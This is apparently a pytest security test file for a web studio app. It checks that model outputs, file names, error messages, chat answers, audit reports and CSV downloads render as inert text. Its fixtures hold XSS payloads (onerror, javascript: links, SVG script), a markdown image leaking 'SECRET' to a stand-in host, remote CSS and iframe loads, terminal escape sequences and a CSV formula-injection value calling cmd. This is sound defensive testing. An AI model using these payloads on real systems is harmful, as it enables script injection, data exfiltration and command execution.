"""Case 24: whatever models, files, prompts, cells, errors, cards and documents say, the studio shows it as text: no dialog, no breach of its policy, no request elsewhere."""
from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

pytest.importorskip("fastapi")
pytest.importorskip("uvicorn")
from tests.studio.canned import Watched, chromium, events, model, paged, samples, serving

pytestmark = pytest.mark.slow
IMG, LINK, SVG = "<img src=x onerror=alert(1)>", "javascript:alert(2)", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(3)'><script>alert(4)</script></svg>"
REMOTE = "![secret](https://elsewhere.example/?q=SECRET) [press](javascript:alert(5)) <a href='javascript:alert(6)'>here</a>"
BAD = f"{IMG} {SVG} {REMOTE} {LINK} </script><script>alert(7)</script> \u202eevil\u202c \x1b]52;c;aGk=\x07"
DRAWING = {"mime": "image/svg+xml", "b64": base64.b64encode(SVG.encode()).decode()}
BROKEN = {"mime": "image/png", "b64": "\" onerror=\"alert(8)"}
ERROR = (400, {"error": {"message": BAD, "remedy": BAD, "code": BAD, "param": BAD, "type": "invalid_request_error"}})
FILE = {"id": "file-1", "object": "file", "filename": f"{IMG}.csv", "bytes": 10, "created_at": 0, "purpose": "ilk"}
READ = {"kind": "table", "n": 2, "columns": [{"name": BAD, "type": "category", "described": BAD, "missing": 0, "low": None, "high": None, "values": [BAD, IMG],
    "examples": [BAD]}], "shape": None, "labels": None,
        "problems": [{"where": BAD, "what": BAD, "remedy": BAD}], "preview": [{BAD: BAD}, {BAD: IMG}], "families": [{"name": "gmm", "summary": BAD, "takes": True,
            "why": None}], "default_family": "gmm"}
FACTS = {"kind": "table", "family": BAD, "can": ["sample", "edit", "impute", "steps", "chat", "score"], "score": "exact", "signed": False,
    "card": f"# {BAD}\n\n{BAD}\n\n- {BAD}\n\n| {IMG} |\n|---|\n| {REMOTE} |\n\n```\n{BAD}\n```",
         "givens": [{"part": BAD, "type": "category", "values": [BAD, IMG]}], "labels": [BAD], "ways": []}
JOB = {"id": "job_1", "object": "ilk.job", "kind": "fit", "name": BAD, "state": "failed", "priority": 0, "progress": 0.5, "attempt": 1, "created": 1.0,
    "started": 1.0, "ended": 2.0, "params": {"name": BAD}, "made": {},
       "error": {"message": BAD, "remedy": BAD, "code": BAD}, "line": {"python": BAD, "cli": BAD}}
NAME = f"bad{IMG}"
REPORT = ("<style>@import url(https://elsewhere.example/x.css); body { background: url(https://elsewhere.example/y.png) }</style><body onload=alert(9)>"
          f"{IMG}{SVG}<iframe src='https://elsewhere.example'></iframe><p style='background:url(https://elsewhere.example/z)'>{REMOTE}</p>")
CITED = {"answer": BAD, "abstained": "", "confidence": 0.5, "claims": [{"text": BAD, "support": 1, "citations": [1]}], "citations": [{"number": 1, "document": BAD,
    "start": 0, "end": 3, "quoted": BAD}], "dropped": [BAD]}


def _table(made: list[Any]) -> dict[str, Any]:
    kind = "text" if isinstance(made[0], str) else "image" if "mime" in made[0] else "table"
    facts = {**FACTS, "kind": kind}
    return {
        "GET /v1/models": {"data": [model(NAME, **facts)]}, f"GET /v1/models/{NAME}": {"id": NAME, "ilk": facts},
        "GET /v1/files": {"data": [FILE]}, "POST /v1/files": FILE, "POST /v1/read": READ, "GET /v1/families": {"data": [{"name": "gmm", "options": [{"name": "k",
            "type": "text", "summary": BAD, "default": BAD}]}]},
        "POST /v1/lines": {"python": BAD, "cli": BAD}, "GET /v1/jobs": {"data": [JOB], "has_more": False}, "GET /v1/jobs/job_1": JOB, "POST /v1/jobs": JOB,
            "GET /v1/jobs/job_1/events": events({"event": BAD, "x": BAD}),
        "POST /v1/sample": lambda body, _: events({"step": 1, "of": 2, "items": made}, samples(made, met=[{"given": BAD,
            "met": BAD}])) if body.get("stream") else samples(made, met=[{"given": BAD, "met": BAD}], line={"python": BAD, "cli": BAD}),
        "POST /v1/edit": ERROR, "POST /v1/impute": ERROR, "POST /v1/completions": ERROR, "POST /v1/steer": ERROR,
        "POST /v1/chat/completions": events({"choices": [{"index": 0, "delta": {"content": f"{BAD}\n\n# {IMG}\n- {REMOTE}\n| {SVG} |\n```html\n{BAD}\n```"}}]}),
            "POST /v1/ask": CITED,
        "GET /v1/libraries": {"data": [{"name": NAME}]}, f"GET /v1/libraries/{NAME}/documents": {"data": [{"name": BAD}]},
        f"GET /v1/libraries/{NAME}/spans": {"text": BAD, "before": BAD, "after": BAD, "path": BAD}}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with serving(tmp_path_factory.mktemp("workspace")) as found:
        yield found


@pytest.fixture(scope="module")
def opened() -> Iterator[Any]:
    with chromium() as found:
        yield found


@pytest.fixture
def seen(base: str, opened: Any) -> Iterator[Watched]:
    with paged(opened, base) as found:
        found.page.add_init_script("window.breaches = []; document.addEventListener('securitypolicyviolation', (e) => window.breaches.push(e.violatedDirective))")
        yield found


def _harmless(seen: Watched) -> None:
    """Nothing of what was said is at work in the page. That a broken picture or a refusal is told in the console is as it should be."""
    seen.page.wait_for_timeout(200)
    refused = ("Failed to load resource", "net::ERR_INVALID_URL")
    seen.errors = [e for e in seen.errors if not any(r in e for r in refused)]
    seen.well()
    assert seen.page.evaluate("window.breaches") == []
    alive = "main script, main [onerror], main [onload], main iframe[src], main a[href^=javascript], main img[src^=http], main img[src=x]"
    assert seen.page.locator(alive).count() == 0


def _press(seen: Watched, *names: str) -> None:
    for name in names:
        found = seen.page.get_by_role("button", name=name).first
        if found.count():
            found.click()
            seen.page.wait_for_timeout(150)


@pytest.mark.parametrize("made", [[BAD, IMG], [{BAD: BAD, "n": 1}, {BAD: IMG, "n": 2}], [DRAWING, BROKEN], [{"shape": [BAD], "values": [BAD]}], [{"object": BAD}]],
    ids=["texts", "rows", "pictures", "arrays", "others"])
def test_what_models_make_is_text(seen: Watched, made: list[Any]) -> None:
    seen.answers(_table(made))
    for where in ("create", "edit", "judge?way=blind"):
        seen.go(where)
        seen.page.wait_for_timeout(300)
        _press(seen, "Make", "Let the model make", "Begin", "Take these rows", "Choose item 1", "Fill the empty cells", "Show spaces")
        _harmless(seen)
    shown = seen.page.evaluate("""async (items) => {
      const { view } = await import('/studio/viewers/index.js'), e = view(items, {}, { captions: items.map(String) });
      document.querySelector('main').replaceChildren(e); return e.innerText; }""", made)
    if isinstance(made[0], str):
        assert IMG in shown and "<script>alert(4)</script>" in shown
    _harmless(seen)


@pytest.mark.parametrize("where", ["data", "data?file=file-1", "fit", "fit?job=job_1", "create", "models", f"models?id={quote(NAME)}", "jobs", "jobs?job=job_1",
    "jobs?id=job_1", "judge", "judge?way=race"])
def test_names_cells_cards_and_errors_are_text(seen: Watched, where: str) -> None:
    seen.answers(_table([{BAD: BAD}]))
    seen.go(where)
    seen.page.wait_for_timeout(500)
    _press(seen, "More", "Log", "Measure", "Race")
    _harmless(seen)


def test_errors_of_every_route_are_text(seen: Watched) -> None:
    seen.page.route("**/v1/**", lambda route: route.fulfill(status=400, json=ERROR[1]))
    for where in ("data", "fit", "create", "edit", "chat", "judge", "models", "jobs"):
        seen.go(where)
        seen.page.get_by_role("alert").first.wait_for()
        assert IMG in seen.page.locator("main").inner_text()
        _harmless(seen)


def test_answers_prompts_and_documents_are_text(seen: Watched) -> None:
    seen.answers(_table([BAD]))
    seen.go("chat")
    write = seen.page.get_by_label("Write here", exact=False)
    write.fill(BAD)
    write.press("Enter")
    answer = seen.page.locator(".turn.assistant .said")
    answer.locator("pre").wait_for()
    told = answer.inner_text()
    assert IMG in told and "https://elsewhere.example/?q=SECRET" in told and answer.locator("img, a, svg").count() == 0
    assert IMG in seen.page.locator(".turn.user").first.inner_text()
    seen.page.get_by_label("Documents").select_option(label=NAME)
    write.fill(BAD)
    write.press("Enter")
    seen.page.get_by_role("button", name="Footnote 1").click()
    seen.page.locator("aside mark").wait_for()
    assert IMG in seen.page.locator("aside").inner_text()
    seen.page.reload()   # what was kept is read again
    seen.page.locator(".turn.assistant").first.wait_for()
    _harmless(seen)


def test_a_hostile_report_does_nothing(seen: Watched) -> None:
    job = {**JOB, "kind": "audit", "state": "succeeded", "error": None, "made": {"report": "audit.html"}}
    seen.answers({**_table([{BAD: BAD}]), "GET /v1/jobs/job_1": job, "GET /v1/jobs/job_1/files/audit.html": REPORT})
    seen.go("judge?way=audit")
    seen.page.locator("main").get_by_role("button", name="Audit").last.click()
    seen.page.frame_locator("iframe.report").locator("p").wait_for()
    seen.page.wait_for_timeout(300)
    assert seen.dialogs == []
    assert seen.page.frame_locator("iframe.report").locator("script, iframe, [onload], [onerror], [href^=javascript]").count() == 0
    assert seen.elsewhere == []


def test_no_cell_of_a_download_is_a_formula(seen: Watched) -> None:
    seen.answers(_table([{"a": 1}]))
    seen.go("models")
    text = 'a,=b,"c"\n=cmd|\' /C calc\'!A0,-1.5e-3,"=1+1"\n+1+2,@SUM(A1),"-x, ""y"""\r\n-7,plain,"quoted = fine"\n'
    said = seen.page.evaluate("(text) => import('/studio/lib/csv.js').then(m => m.defused(text))", text)
    assert said == 'a,\'=b,"c"\n\'=cmd|\' /C calc\'!A0,-1.5e-3,"\'=1+1"\n\'+1+2,\'@SUM(A1),"\'-x, ""y"""\r\n-7,plain,"quoted = fine"\n'
    with seen.page.expect_download() as download:
        seen.page.evaluate(f"import('/studio/lib/api.js').then(m => m.save(new Blob([{json.dumps(text)}]), 'x.csv'))")
    assert "'=cmd|" in Path(download.value.path()).read_text()
